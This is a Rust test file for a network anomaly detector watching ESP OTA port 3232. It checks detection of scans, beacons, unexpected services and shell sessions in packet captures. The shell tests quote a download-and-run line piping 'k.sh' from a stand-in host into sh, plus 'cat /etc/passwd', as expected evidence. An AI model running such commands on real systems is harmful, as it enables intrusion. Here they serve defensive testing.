//! End to end: `testdata/anomaly/mixed.pcap` (testgen `anomaly::mixed`) yields exactly the
//! anomaly events its builder lists, none for the legitimate OTA traffic mixed in.

mod common;

use common::{run, testdata};
use serde_json::Value;
use std::collections::BTreeSet;
use std::io::Write;
use watch3232_testgen::anomaly as gen;

fn mixed() -> String {
    testdata("anomaly/mixed.pcap").to_str().unwrap().to_string()
}

/// (kind, report, src_ip, dest_ip:dest_port/proto, protocol_guess) of every anomaly event.
fn summary(events: &[&Value]) -> Vec<(String, String, String, String, String)> {
    events
        .iter()
        .map(|e| {
            let a = &e["anomaly"];
            let s = |v: &Value| {
                v.as_str()
                    .map(str::to_string)
                    .unwrap_or_else(|| v.to_string())
            };
            let target = if a["reason"] == "scan" {
                format!(
                    "{}/{}",
                    a["scan"]["src_ip"].as_str().unwrap(),
                    a["scan"]["proto"].as_str().unwrap()
                )
            } else {
                format!("{}:{}/{}", s(&e["dest_ip"]), e["dest_port"], s(&e["proto"]))
            };
            (
                s(&e["kind"]),
                s(&a["report"]),
                s(&e["src_ip"]),
                target,
                s(&a["protocol_guess"]),
            )
        })
        .collect::<Vec<_>>()
        .tap_sort()
}

trait TapSort {
    fn tap_sort(self) -> Self;
}

impl<T: Ord> TapSort for Vec<T> {
    fn tap_sort(mut self) -> Self {
        self.sort();
        self
    }
}

fn t(
    kind: &str,
    report: &str,
    src: &str,
    target: &str,
    guess: &str,
) -> (String, String, String, String, String) {
    (
        kind.into(),
        report.into(),
        src.into(),
        target.into(),
        guess.into(),
    )
}

#[test]
fn mixed_capture_yields_exactly_the_planted_anomalies() {
    let r = run(&["read", &mixed()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let anomalies: Vec<&Value> = r.of_type("anomaly").collect();
    let mut expected = vec![
        t(
            "unexpected_tcp_service",
            "end",
            gen::ATTACKER,
            "192.0.2.60:3232/TCP",
            "tls",
        ),
        t(
            "unexpected_tcp_service",
            "end",
            gen::ATTACKER,
            "192.0.2.61:3232/TCP",
            "http",
        ),
        t(
            "unexpected_tcp_service",
            "end",
            gen::ATTACKER,
            "192.0.2.62:3232/TCP",
            "ssh",
        ),
        t(
            "unknown_protocol",
            "end",
            gen::UDP_JUNK_SRC,
            "192.0.2.63:3232/UDP",
            "binary",
        ),
        t(
            "interactive_session",
            "end",
            gen::C2_OPERATOR,
            "192.0.2.64:3232/TCP",
            "text",
        ),
        t(
            "beacon",
            "end",
            gen::BEACONER,
            "203.0.113.10:3232/UDP",
            "text",
        ),
        t(
            "scan",
            "window",
            "198.51.100.66",
            "198.51.100.66/TCP",
            "null",
        ),
        t(
            "scan",
            "window",
            "198.51.100.67",
            "198.51.100.67/UDP",
            "null",
        ),
        t(
            "scan",
            "window",
            "198.51.100.68",
            "198.51.100.68/TCP",
            "null",
        ),
        t(
            "unknown_protocol",
            "end",
            gen::LONE_CLIENT,
            "192.0.2.91:3232/TCP",
            "empty",
        ),
        t(
            "malformed_ota",
            "end",
            "192.0.2.10",
            "192.0.2.50:3232/UDP",
            "text",
        ),
        t(
            "unexpected_tcp_service",
            "early",
            gen::BULK_CLIENT,
            "192.0.2.66:3232/TCP",
            "binary",
        ),
        t(
            "unexpected_tcp_service",
            "update",
            gen::BULK_CLIENT,
            "192.0.2.66:3232/TCP",
            "binary",
        ),
    ];
    for i in 0..8 {
        let kind = if i < 4 {
            "unexpected_tcp_service"
        } else {
            "beacon"
        };
        expected.push(t(
            kind,
            "end",
            gen::CONN_BEACONER,
            "203.0.113.11:3232/TCP",
            "http",
        ));
    }
    expected.sort();
    assert_eq!(anomalies.len(), expected.len());
    assert_eq!(summary(&anomalies), expected);
    // The legitimate espota exchanges: their invitations, nothing else.
    assert_eq!(r.of_kind("arduino_ota", "invitation").len(), 2);
    // At most one event per flow, plus one update for the early-judged flow.
    let mut per_flow = std::collections::BTreeMap::new();
    for e in &anomalies {
        if let Some(id) = e["flow_id"].as_u64() {
            *per_flow.entry(id).or_insert(0) += 1;
        }
    }
    assert_eq!(per_flow.values().filter(|&&n| n == 2).count(), 1);
    assert!(per_flow.values().all(|&n| n <= 2));
    let stats = r.summary();
    assert_eq!(stats["events"]["anomaly"], 21);
    // The open port 192.0.2.77 (SYN-ACK, no data) is one of the SYN scan's 254 probes.
    assert_eq!(
        stats["classifiers"]["anomaly.scan_probes_folded"],
        254 + 40 + 3
    );
    assert_eq!(stats["classifiers"]["anomaly.judged_early"], 1);
}

fn find<'a>(r: &'a common::Run, kind: &str, dest: &str) -> &'a Value {
    r.of_type("anomaly")
        .find(|e| e["kind"] == kind && e["dest_ip"] == dest)
        .unwrap_or_else(|| panic!("{kind} to {dest}"))
}

#[test]
fn evidence_of_each_guess() {
    let r = run(&["read", &mixed()]);
    let tls = &find(&r, "unexpected_tcp_service", gen::TLS_HOST)["anomaly"];
    assert_eq!(tls["tls"]["sni"], gen::TLS_SNI);
    assert_eq!(tls["tls"]["version"], "TLS 1.3");
    assert_eq!(tls["tls"]["server_version"], "TLS 1.3");
    assert_eq!(tls["tls"]["cipher_suite"], "0x1301");
    assert_eq!(tls["tls"]["alpn"], serde_json::json!(["h2", "http/1.1"]));
    // JA3 as tshark 4.0 computes it for the same packet; JA4 by the FoxIO spec.
    assert_eq!(
        tls["tls"]["ja3"],
        "771,4865-4866-4867-49195-49199-49200-156,0-23-65281-10-11-35-16-13-43-45-51,29-23-24,0"
    );
    assert_eq!(tls["tls"]["ja3_hash"], "c21efe05df4b44f8ab8cf9d0dea320ee");
    assert_eq!(tls["tls"]["ja4"], "t13d0711h2_586d59b8e5dc_9ea680a096c6");
    assert_eq!(tls["tcp"]["handshake_completed"], true);
    assert_eq!(tls["tcp"]["flags_toclient"], "SYN,ACK,PSH,FIN");
    assert_eq!(
        find(&r, "unexpected_tcp_service", gen::TLS_HOST)["severity"],
        "high"
    );

    let http = &find(&r, "unexpected_tcp_service", gen::HTTP_HOST)["anomaly"]["http"];
    assert_eq!(http["method"], "GET");
    assert_eq!(http["path"], "/cmd?id=7");
    assert_eq!(http["host"], "192.0.2.61:3232");
    assert_eq!(http["user_agent"], "curl/8.5.0");
    assert_eq!(http["status"], 200);
    assert_eq!(http["server"], "SimpleHTTP/0.6 Python/3.12.3");

    let ssh = &find(&r, "unexpected_tcp_service", gen::SSH_HOST)["anomaly"]["ssh"];
    assert_eq!(ssh["banner"], gen::SSH_SERVER_BANNER);
    assert_eq!(ssh["client_banner"], gen::SSH_CLIENT_BANNER);

    let junk = &find(&r, "unknown_protocol", gen::UDP_JUNK_HOST)["anomaly"];
    assert_eq!(
        (
            junk["pkts_toserver"].as_u64(),
            junk["bytes_toserver"].as_u64()
        ),
        (Some(3), Some(600))
    );
    assert!(junk["entropy"].as_f64().unwrap() > 7.0);
    assert_eq!(
        junk["payload_preview"]["toserver"]["hex"]
            .as_str()
            .unwrap()
            .len(),
        128
    );

    let c2 = &find(&r, "interactive_session", gen::BACKDOORED)["anomaly"];
    assert_eq!(c2["interactive"]["turns"], 10);
    // `uid=0(root)` and a `# ` prompt: a root shell.
    assert_eq!(
        find(&r, "interactive_session", gen::BACKDOORED)["severity"],
        "critical"
    );
    assert_eq!(c2["interactive"]["root"], true);
    assert_eq!(c2["interactive"]["evidence"].as_array().unwrap().len(), 7);

    let beacon = &find(&r, "beacon", gen::BEACON_C2)["anomaly"]["beacon"];
    assert_eq!(beacon["count"], 8);
    let period = beacon["period_s"].as_f64().unwrap();
    assert!((29.5..30.5).contains(&period), "{period}");

    // One connection per check-in: the fifth to eighth flows are beacons across flows.
    let mut counts: Vec<u64> = r
        .of_type("anomaly")
        .filter(|e| e["kind"] == "beacon" && e["dest_ip"] == gen::CONN_BEACON_C2)
        .map(|e| {
            assert_eq!(e["anomaly"]["beacon"]["across_flows"], true);
            e["anomaly"]["beacon"]["count"].as_u64().unwrap()
        })
        .collect();
    counts.sort();
    assert_eq!(counts, [5, 6, 7, 8]);

    let bad = &find(&r, "malformed_ota", "192.0.2.50")["anomaly"];
    assert_eq!(bad["error"], "image MD5 has 31 characters, not 32");

    let lone = find(&r, "unknown_protocol", gen::LONE_HOST);
    assert_eq!(
        (
            lone["severity"].as_str(),
            lone["anomaly"]["pkts_toserver"].as_u64()
        ),
        (Some("info"), Some(3))
    );
}

#[test]
fn scans_are_one_event_per_source_and_window() {
    let r = run(&["read", &mixed()]);
    let scans: Vec<&Value> = r.of_kind("anomaly", "scan");
    assert_eq!(scans.len(), 3);
    let syn = &scans
        .iter()
        .find(|e| e["anomaly"]["scan"]["src_ip"] == gen::SYN_SCANNER)
        .unwrap()["anomaly"]["scan"];
    assert_eq!(
        (syn["kind"].as_str(), syn["shape"].as_str()),
        (Some("syn"), Some("horizontal"))
    );
    // The generator's SYNs are no nmap's (window 64240, no options): no tool.
    assert_eq!(syn.get("tool"), None);
    assert_eq!(syn["target_count"], 254);
    assert_eq!(syn["host_count"], 254);
    assert_eq!(syn["answered"], 1);
    assert_eq!(
        syn["answered_targets"],
        serde_json::json!(["192.0.2.77:3232"])
    );
    assert_eq!(syn["probes_folded"], 254);
    assert_eq!(syn["ports"], serde_json::json!([3232]));
    assert_eq!(syn["sample_targets"].as_array().unwrap().len(), 10);
    assert_eq!(syn["sample_targets"][0], "192.0.2.1:3232");
    let udp = &scans
        .iter()
        .find(|e| e["anomaly"]["scan"]["src_ip"] == gen::UDP_SCANNER)
        .unwrap()["anomaly"]["scan"];
    assert_eq!(
        (udp["proto"].as_str(), udp["target_count"].as_u64()),
        (Some("UDP"), Some(40))
    );
    let v = &scans
        .iter()
        .find(|e| e["anomaly"]["scan"]["src_ip"] == gen::VSCANNER)
        .unwrap()["anomaly"]["scan"];
    assert_eq!(
        (v["kind"].as_str(), v["shape"].as_str()),
        (Some("syn"), Some("vertical"))
    );
    assert_eq!(v["ports"], serde_json::json!([2040, 3232, 8266]));
}

#[test]
fn a_scan_names_its_scanner_as_source_and_its_one_host_as_destination() {
    let r = run(&["read", &mixed()]);
    let scan_of = |src: &str| {
        *r.of_kind("anomaly", "scan")
            .iter()
            .find(|e| e["src_ip"] == src)
            .unwrap()
    };
    // Horizontal: many hosts, so no destination.
    let h = scan_of(gen::SYN_SCANNER);
    assert_eq!((h["proto"].as_str(), h.get("dest_ip")), (Some("TCP"), None));
    assert_eq!(h.get("community_id"), None);
    // Vertical: one host, the destination.
    let v = scan_of(gen::VSCANNER);
    assert_eq!(
        v["dest_ip"],
        v["anomaly"]["scan"]["sample_targets"][0]
            .as_str()
            .unwrap()
            .split(':')
            .next()
            .unwrap()
    );
    assert_eq!(v.get("dest_port"), None);
    // ECS: source.ip and related.ip (destination.ip with one host).
    let r = run(&["read", "--format", "ecs", &mixed()]);
    let ecs: Vec<&Value> = r
        .events
        .iter()
        .filter(|e| e["event"]["action"] == "scan")
        .collect();
    assert_eq!(ecs.len(), 3);
    let h = ecs
        .iter()
        .find(|e| e["source"]["ip"] == gen::SYN_SCANNER)
        .unwrap();
    assert_eq!(h["related"]["ip"], serde_json::json!([gen::SYN_SCANNER]));
    assert_eq!(
        (h.get("destination"), h["network"]["transport"].as_str()),
        (None, Some("tcp"))
    );
    let v = ecs
        .iter()
        .find(|e| e["source"]["ip"] == gen::VSCANNER)
        .unwrap();
    let host = v["destination"]["ip"].as_str().unwrap();
    assert_eq!(v["related"]["ip"], serde_json::json!([gen::VSCANNER, host]));
}

#[test]
fn thresholds_and_watch_ports_are_configurable() {
    // Above the UDP scan's 40 hosts: its 40 probes come out one by one instead.
    let r = run(&["read", "--scan-hosts", "41", &mixed()]);
    assert_eq!(r.of_kind("anomaly", "scan").len(), 2);
    let udp_probes = r
        .of_type("anomaly")
        .filter(|e| e["src_ip"] == gen::UDP_SCANNER)
        .count();
    assert_eq!(udp_probes, 40);
    // Only 3232 watched: the vertical scan shrinks to one probe on 3232, reported alone.
    let r = run(&["read", "--watch-ports", "3232", &mixed()]);
    assert_eq!(r.of_kind("anomaly", "scan").len(), 2);
    let v: Vec<&Value> = r
        .of_type("anomaly")
        .filter(|e| e["src_ip"] == gen::VSCANNER)
        .collect();
    assert_eq!(v.len(), 1);
    assert_eq!(
        (v[0]["kind"].as_str(), v[0]["dest_port"].as_u64()),
        (Some("unknown_protocol"), Some(3232))
    );
}

#[test]
fn allowlist_silences_and_counts() {
    let mut f = tempfile::NamedTempFile::new().unwrap();
    writeln!(f, "# lab\nhost {}  scan   # inventory scanner\nnet 192.0.2.60/31 unexpected_tcp_service # TLS and HTTP test boxes\nport 3232/udp beacon", gen::SYN_SCANNER).unwrap();
    let path = f.path().to_str().unwrap().to_string();
    let r = run(&["read", "--allowlist", &path, &mixed()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let kinds: Vec<(String, String)> = r
        .of_type("anomaly")
        .map(|e| {
            (
                e["kind"].as_str().unwrap().to_string(),
                e["dest_ip"].as_str().unwrap_or("-").to_string(),
            )
        })
        .collect();
    // The silenced scan's open port (folded into it) is written after all.
    assert_eq!(kinds.len(), 21 - 4 + 1);
    assert!(!kinds.contains(&("beacon".to_string(), gen::BEACON_C2.to_string())));
    let stats = r.summary();
    assert_eq!(stats["classifiers"]["anomaly.silenced"], 4);
    assert_eq!(stats["classifiers"]["anomaly.silenced.scan"], 1);
    assert_eq!(
        stats["classifiers"]["anomaly.silenced.unexpected_tcp_service"],
        2
    );
    assert_eq!(stats["classifiers"]["anomaly.silenced.beacon"], 1);
    // The open host the scanner found is still reported: only `scan` was silenced for it.
    assert_eq!(
        stats["classifiers"]["anomaly.scan_probes_folded"],
        253 + 40 + 3
    );
    assert_eq!(
        r.of_type("anomaly")
            .filter(|e| e["dest_ip"] == gen::OPEN_HOST)
            .count(),
        1
    );

    let mut bad = tempfile::NamedTempFile::new().unwrap();
    writeln!(bad, "host 192.0.2.999").unwrap();
    let r = run(&[
        "read",
        "--allowlist",
        bad.path().to_str().unwrap(),
        &mixed(),
    ]);
    assert_eq!(r.code, Some(1));
    assert!(
        r.stderr
            .contains("line 1: `192.0.2.999` is not an IP address"),
        "{}",
        r.stderr
    );
}

/// tshark's view of the first ClientHello of `path` on port 3232: SNI, offered versions, JA3
/// string and hash. Needs tshark (the callers are `#[ignore]`d for it).
fn tshark_client_hello(path: &str) -> Vec<String> {
    let out = std::process::Command::new("tshark")
        .args([
            "-r",
            path,
            "-d",
            "tcp.port==3232,tls",
            "-Y",
            "tls.handshake.type==1",
            "-T",
            "fields",
        ])
        .args([
            "-e",
            "tls.handshake.extensions_server_name",
            "-e",
            "tls.handshake.extensions.supported_version",
        ])
        .args(["-e", "tls.handshake.ja3_full", "-e", "tls.handshake.ja3"])
        .output();
    let Ok(out) = out else {
        common::require(false, "tshark (apt-get install tshark)");
        unreachable!()
    };
    let text = String::from_utf8(out.stdout).unwrap();
    let fields: Vec<String> = text
        .lines()
        .next()
        .unwrap_or_default()
        .split('\t')
        .map(str::to_owned)
        .collect();
    assert_eq!(fields.len(), 4, "{text}");
    fields
}

#[test]
#[ignore = "needs tshark"]
fn tls_sni_and_version_agree_with_tshark() {
    let fields = tshark_client_hello(&mixed());
    let r = run(&["read", &mixed()]);
    let tls = &find(&r, "unexpected_tcp_service", gen::TLS_HOST)["anomaly"]["tls"];
    assert_eq!(tls["sni"], fields[0]);
    // tshark lists the offered versions (GREASE included); ours is the highest non-GREASE one.
    let grease = |v: &&str| {
        u16::from_str_radix(v.trim_start_matches("0x"), 16).is_ok_and(|x| x & 0x0f0f == 0x0a0a)
    };
    let highest = fields[1].split(',').filter(|v| !grease(v)).max().unwrap();
    assert_eq!(
        (highest, tls["version"].as_str()),
        ("0x0304", Some("TLS 1.3"))
    );
    assert_eq!(tls["ja3"], fields[2]);
    assert_eq!(tls["ja3_hash"], fields[3]);
}

/// Half-open floods: 20,000 one-packet SYN flows from distinct sources through a 500-flow
/// table (evictions; more sources than scan windows), then one source SYN-flooding 10,000
/// hosts. Exactly one event per flow for the first, one `scan` for the second.
#[test]
fn floods_stay_bounded_with_one_event_per_flow() {
    use watch3232_testgen::capture::{PcapWriter, Record};
    use watch3232_testgen::frame::{self, tcp_flags::SYN, Link, ESPRESSIF_MAC, LAPTOP_MAC};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("flood.pcap");
    let link = Link::Ethernet {
        src: LAPTOP_MAC,
        dst: ESPRESSIF_MAC,
    };
    let mut w = PcapWriter::new(
        std::io::BufWriter::new(std::fs::File::create(&path).unwrap()),
        link.linktype(),
        65535,
    )
    .unwrap();
    let mut ts = watch3232_testgen::scenarios::EPOCH_US;
    for i in 0..20_000u32 {
        let src = std::net::Ipv4Addr::from(0x6440_0000 + i).into();
        let dst = std::net::Ipv4Addr::from(0x0a00_0000 + (i * 7919) % 65536).into();
        w.write(&Record::new(
            ts,
            link.wrap(&frame::tcp(src, dst, 40000, 3232, i, 0, SYN, b"")),
        ))
        .unwrap();
        ts += 100;
    }
    let flooder = "198.18.0.1".parse().unwrap();
    for i in 0..10_000u32 {
        let dst = std::net::Ipv4Addr::from(0x0a01_0000 + i).into();
        w.write(&Record::new(
            ts,
            link.wrap(&frame::tcp(flooder, dst, 40001, 3232, i, 0, SYN, b"")),
        ))
        .unwrap();
        ts += 100;
    }
    drop(w);
    let r = run(&["read", "--max-flows", "500", path.to_str().unwrap()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let anomalies: Vec<&Value> = r.of_type("anomaly").collect();
    assert_eq!(anomalies.len(), 20_001);
    let ids: BTreeSet<u64> = anomalies
        .iter()
        .filter_map(|e| e["flow_id"].as_u64())
        .collect();
    assert_eq!(ids.len(), 20_000);
    assert!(anomalies
        .iter()
        .filter(|e| e["kind"] == "unknown_protocol")
        .all(|e| e["severity"] == "info"));
    let scan = &r.of_kind("anomaly", "scan")[0]["anomaly"]["scan"];
    assert_eq!(scan["src_ip"], "198.18.0.1");
    assert_eq!(scan["target_count"], 10_000);
    assert_eq!(scan["targets_truncated"], true);
    assert_eq!(scan["sample_targets"].as_array().unwrap().len(), 10);
    let stats = r.summary();
    assert_eq!(stats["flows"]["evicted"], 30_000 - 500);
    assert_eq!(stats["flows"]["peak"], 500);
    assert!(
        stats["classifiers"]["anomaly.scan_windows_evicted"]
            .as_u64()
            .unwrap()
            >= 20_000 - 1024
    );
    assert_eq!(stats["classifiers"]["anomaly.scan_probes_folded"], 10_000);
}

/// The reference captures of real upstream uploads in testdata/real/ota (espota.py of both
/// arduino-esp32 eras and ESP8266, ESPHome espota2.py; MD5, PBKDF2, SHA-256, failed auth,
/// aborted, filesystem; checked against MANIFEST.json by tests/real_captures.rs): no anomaly.
#[test]
fn real_reference_uploads_yield_no_anomaly() {
    let m = common::real_manifest();
    let files: Vec<&str> = m["captures"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["file"].as_str())
        .filter(|f| f.starts_with("ota/"))
        .collect();
    assert!(files.len() >= 16, "reference uploads: {files:?}");
    for f in files {
        let path = common::real_capture(f);
        let r = run(&["read", path.to_str().unwrap()]);
        assert_eq!(r.code, Some(0), "{f}: {}", r.stderr);
        assert_eq!(r.of_type("anomaly").count(), 0, "{f}");
    }
}

/// The real openssl s_client hello (testdata/real/anomaly/openssl_tls.pcap): SNI, version and
/// JA3 as tshark reads them.
#[test]
#[ignore = "needs tshark"]
fn real_openssl_hello_agrees_with_tshark() {
    let path = common::real_capture("anomaly/openssl_tls.pcap");
    let path = path.to_str().unwrap();
    let fields = tshark_client_hello(path);
    let r = run(&["read", path]);
    let events: Vec<&Value> = r.of_type("anomaly").collect();
    assert_eq!(events.len(), 1);
    let tls = &events[0]["anomaly"]["tls"];
    assert_eq!(tls["sni"], fields[0].as_str());
    assert_eq!(tls["sni"], "c2.example.test");
    assert_eq!(tls["ja3"], fields[2].as_str());
    assert_eq!(tls["ja3_hash"], fields[3].as_str());
    assert_eq!(tls["version"], "TLS 1.3");
}

/// A 1.3 KB ClientHello (padding extension) in two TCP segments, the first retransmitted:
/// the client's sample grows past 512 bytes until the hello is whole, retransmitted bytes are
/// not sampled twice, and the SNI and JA3 come out as tshark reads them.
#[test]
fn large_client_hello_across_segments_and_retransmission() {
    use watch3232_testgen::capture::PcapWriter;
    use watch3232_testgen::frame::{Link, ESPRESSIF_MAC, LAPTOP_MAC};
    use watch3232_testgen::rng::Rng;
    use watch3232_testgen::scenarios::{ip, Timeline};
    let link = Link::Ethernet {
        src: LAPTOP_MAC,
        dst: ESPRESSIF_MAC,
    };
    let mut t = Timeline::new(link);
    let mut rng = Rng::new(5);
    let mut c = gen::TcpConv::new(
        (ip("198.51.100.7"), 51999),
        (ip("192.0.2.60"), 3232),
        &mut rng,
    );
    c.handshake(&mut t);
    let hello = gen::client_hello_padded("big.example.org", 1000, &mut rng);
    assert!(hello.len() > 1200);
    c.client_says_with_retransmission(&mut t, &hello, 700);
    c.server_says(&mut t, &gen::server_hello(&mut rng));
    c.close(&mut t);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("big-hello.pcap");
    let mut w = PcapWriter::new(
        std::fs::File::create(&path).unwrap(),
        link.linktype(),
        65535,
    )
    .unwrap();
    for r in &t.records {
        w.write(r).unwrap();
    }
    drop(w);
    let r = run(&["read", path.to_str().unwrap()]);
    let events: Vec<&Value> = r.of_type("anomaly").collect();
    assert_eq!(events.len(), 1);
    let a = &events[0]["anomaly"];
    assert_eq!(a["tls"]["sni"], "big.example.org");
    assert_eq!(
        a["tls"]["ja3"],
        "771,4865-4866-4867-49195-49199-49200-156,0-23-65281-10-11-35-16-13-43-45-51-21,29-23-24,0"
    );
    // Payload bytes count every segment on the wire (the retransmission too).
    assert_eq!(a["bytes_toserver"], hello.len() as u64 + 700);
    // The preview starts at the record header, once.
    let head = format!("160301{:04x}01", hello.len() - 5);
    assert!(a["payload_preview"]["toserver"]["hex"]
        .as_str()
        .unwrap()
        .starts_with(&head));
}

/// One sign of a shell: (kind, toserver, quote).
type Sign = (String, bool, String);

/// (kind, severity, root, download_exec, the evidence) of the one finding of a capture.
fn shell_finding(capture: &str) -> (String, String, bool, bool, Vec<Sign>) {
    let r = run(&["read", testdata(capture).to_str().unwrap()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let found: Vec<&Value> = r.of_type("anomaly").collect();
    assert_eq!(found.len(), 1, "{capture}: {found:?}");
    let e = found[0];
    let i = &e["anomaly"]["interactive"];
    let evidence = i["evidence"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|s| {
                    (
                        s["kind"].as_str().unwrap().to_string(),
                        s["toserver"].as_bool().unwrap(),
                        s["quote"].as_str().unwrap().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    (
        e["kind"].as_str().unwrap().into(),
        e["severity"].as_str().unwrap().into(),
        i["root"] == true,
        i["download_exec"] == true,
        evidence,
    )
}

fn sign(kind: &str, toserver: bool, quote: &str) -> Sign {
    (kind.into(), toserver, quote.into())
}

#[test]
fn a_reverse_shell_running_a_download_is_critical() {
    let (kind, severity, root, download, evidence) = shell_finding("anomaly/reverse_shell.pcap");
    assert_eq!(
        (kind.as_str(), severity.as_str(), root, download),
        ("interactive_session", "critical", false, true)
    );
    // The victim called out to the listener on 3232: its prompt and output go towards it.
    assert_eq!(
        evidence,
        [
            sign("prompt", true, "bash-5.2$ "),
            sign(
                "output",
                true,
                "uid=1000(gw) gid=1000(gw) groups=1000(gw),20(dialout)"
            ),
            sign(
                "output",
                true,
                "Linux gw-2 6.1.21-v8+ #1642 SMP PREEMPT aarch64 GNU/Linux"
            ),
            sign("command", false, "id"),
            sign("command", false, "uname -a"),
            sign("command", false, "curl -s http://203.0.113.20/k.sh | sh"),
        ]
    );
}

#[test]
fn a_bind_shell_as_root_is_critical() {
    let (kind, severity, root, download, evidence) = shell_finding("anomaly/bind_shell.pcap");
    assert_eq!(
        (kind.as_str(), severity.as_str(), root, download),
        ("interactive_session", "critical", true, false)
    );
    assert_eq!(
        evidence,
        [
            sign("command", true, "whoami"),
            sign("command", true, "id"),
            sign("command", true, "cat /etc/passwd"),
            sign(
                "output",
                false,
                "uid=0(root) gid=0(root) groups=0(root),1(bin)"
            ),
            sign("output", false, "root:x:0:0:root:/root:/bin/ash"),
        ]
    );
}

#[test]
fn a_windows_cmd_shell_is_high() {
    let (kind, severity, root, download, evidence) = shell_finding("anomaly/cmd_exe.pcap");
    assert_eq!(
        (kind.as_str(), severity.as_str(), root, download),
        ("interactive_session", "high", false, false)
    );
    assert_eq!(
        evidence[..4],
        [
            sign("command", true, "whoami"),
            sign("command", true, "ipconfig"),
            sign(
                "output",
                false,
                "Microsoft Windows [Version 10.0.19045.4046]"
            ),
            sign("prompt", false, "C:\\\\Windows\\\\system32>"),
        ]
    );
}

#[test]
fn a_line_based_sensor_feed_is_no_shell() {
    let (kind, severity, _, _, evidence) = shell_finding("anomaly/sensor_feed.pcap");
    assert_eq!(
        (kind.as_str(), severity.as_str(), evidence.len()),
        ("unexpected_tcp_service", "medium", 0)
    );
    let r = run(&[
        "read",
        testdata("anomaly/sensor_feed.pcap").to_str().unwrap(),
    ]);
    assert_eq!(
        r.of_type("anomaly").next().unwrap()["anomaly"]["protocol_guess"],
        "text"
    );
}

#[test]
fn no_interactive_session_on_ota_esphome_or_mdt_captures() {
    let captures: Vec<_> = common::bundled_captures(common::Captures::WithReal)
        .into_iter()
        .filter(|p| {
            let p = p.to_string_lossy();
            ["/ota/", "/mdt/", "/mdns/", "demo.pcapng"]
                .iter()
                .any(|d| p.contains(d))
        })
        .collect();
    assert!(captures.len() >= 25, "{captures:?}");
    for cap in &captures {
        let r = run(&["read", cap.to_str().unwrap()]);
        assert_eq!(r.code, Some(0), "{}: {}", cap.display(), r.stderr);
        assert_eq!(
            r.of_kind("anomaly", "interactive_session").len(),
            0,
            "{}",
            cap.display()
        );
    }
}

#[test]
fn a_lone_nmap_syn_probe_is_a_probe() {
    // Only 3232 of nmap's five ports is watched by default: one probe, open, nmap's SYN.
    let r = run(&[
        "read",
        common::real_capture("anomaly/nmap_syn_3230_3234.pcap")
            .to_str()
            .unwrap(),
    ]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let found: Vec<&Value> = r.of_type("anomaly").collect();
    assert_eq!(found.len(), 1, "{found:?}");
    let e = found[0];
    assert_eq!(
        (
            e["kind"].as_str(),
            e["severity"].as_str(),
            e["src_ip"].as_str(),
            e["dest_port"].as_u64()
        ),
        (Some("probe"), Some("low"), Some("10.32.32.1"), Some(3232))
    );
    assert_eq!(
        e["anomaly"]["detail"],
        "10.32.32.1 sent nmap's SYN-scan probe to TCP 10.32.32.2:3232: open"
    );
}
